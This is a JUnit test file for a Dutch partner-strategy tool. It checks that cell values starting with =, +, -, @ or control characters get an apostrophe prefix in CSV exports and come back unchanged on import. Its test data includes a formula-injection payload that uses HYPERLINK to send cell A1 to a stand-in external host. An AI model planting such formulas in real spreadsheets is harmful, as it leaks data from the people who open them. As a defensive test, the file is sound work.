/*
 * Copyright (c) 2026 the contributors to Partner Strategy.
 * This program and the accompanying materials are made available under the
 * terms of the Eclipse Public License 2.0 (https://www.eclipse.org/legal/epl-2.0).
 * SPDX-License-Identifier: EPL-2.0
 */
package org.partnerstrategy.exchange.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Optional;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.partnerstrategy.exchange.InventoryTable;
import org.partnerstrategy.exchange.register.RegisterReader;
import org.partnerstrategy.exchange.register.SpreadsheetText;
import org.partnerstrategy.model.PartnerStrategy;

class SpreadsheetTextTest {

    private static final String LINK = "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klik\")";

    @ParameterizedTest
    @ValueSource(strings = { LINK, "=1+1", "-Samen Sterk", "@Jongeren", "+31 6 12345678", "\ttab", "\rreturn", "-",
            "--1",
        "-1+2", "=", "+1e", "\uFF1D1+1", "'=1+1", "''-a", "-1.2;3", "@1" })
    void isNoFormulaAndComesBackTheSame(String text) {
        assertEquals("'" + text, SpreadsheetText.guarded(text));
        assertEquals(text, SpreadsheetText.plain(SpreadsheetText.guarded(text)));
    }

    @ParameterizedTest
    @ValueSource(strings = { "", "plus + min", "-100", "-100,5", "+12", "-1.200,50", "-14.0", "-5%", "1E-5", "-1e+06",
        "'s-Hertogenbosch", "'t Huis", "a=b", "\u2212 1" })
    void isLeftAloneWhereItIsNoFormula(String text) {
        assertEquals(text, SpreadsheetText.guarded(text));
        assertEquals(text, SpreadsheetText.plain(text));
    }

    @Test
    void ofARegisterStandsInTheTableWithoutFormulasAndComesBack() throws Exception {
        PartnerStrategy strategy = Strategies.empty();
        Registers.bring(Registers.csv("Partner;Doel;Bedrag;Omschrijving;Praktische ervaring",
                "\"" + LINK.replace("\"", "\"\"") + "\";Jeugd;-100;\"+31 6 12345678\";\"@import\"",
                "-Samen Sterk;=Jeugd;200;=1+1;-", "@Jongeren;Jeugd;300,5;plus + min;normaal"), strategy);
        ByteArrayOutputStream table = new ByteArrayOutputStream();
        new InventoryTable(Locale.of("nl")).write(strategy, table);
        String text = table.toString(StandardCharsets.UTF_8);
        assertTrue(text.contains("'=HYPERLINK") && text.contains("'-Samen Sterk") && text.contains(";-100;"), text);
        assertFalse(text.contains(";=") || text.contains("\n=") || text.contains(";@"), text);

        PartnerStrategy other = Strategies.empty();
        Registers.bring(RegisterReader.read("table.csv", table.toByteArray(), Optional.empty()), other);
        assertEquals(List.of(LINK, "-Samen Sterk", "@Jongeren"),
                other.getPartners().stream().map(partner -> partner.getName()).toList());
        assertEquals(List.of("Jeugd", "=Jeugd"), other.getGoals().stream().map(goal -> goal.getName()).toList());
        assertEquals("+31 6 12345678", other.getRelations().getFirst().getDescription());
        assertEquals("=1+1", other.getRelations().get(1).getDescription());
        assertEquals("@import", other.getRelations().getFirst().getExperiences().getFirst().getText());
    }
}
